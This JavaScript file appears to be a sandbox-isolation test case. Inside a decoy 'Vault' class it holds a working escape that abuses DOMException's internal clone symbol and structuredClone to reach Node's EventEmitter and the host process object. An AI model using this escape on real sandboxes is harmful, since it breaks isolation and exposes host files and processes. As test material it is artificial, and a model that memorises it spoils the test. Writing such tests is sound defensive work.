/**
 * Clones a DOMException that says it is a file handle, takes the class of all emitters from that, and so the process.
 *
 * @verdict graded 0
 * @without realm scope
 * @then prints got the process
 */
export class Vault {
  put() {}
  get() {}
  names() {}
  keep() {}
  onGone() {}
  load(name) {
    const symbol = Object.getOwnPropertySymbols(DOMException.prototype).find((one) =>
      String(one).includes('messaging_clone'),
    )
    const exception = Object.defineProperty(new DOMException(''), symbol, {
      value: () => ({ data: { handle: { fd: 1 } }, deserializeInfo: 'internal/fs/promises:FileHandle' }),
    })
    const emitter = Object.getPrototypeOf(Object.getPrototypeOf(structuredClone(exception)))
    const { emit } = emitter
    emitter.emit = function (...event) {
      emitter.emit = emit
      if (this.getBuiltinModule('fs').writeSync) console.log('got the process')
      return emit.apply(this, event)
    }
    setTimeout(() => {
      throw new Error('have the process emit something')
    })
    return new Promise((resolve) => setTimeout(resolve, 50))
  }
}
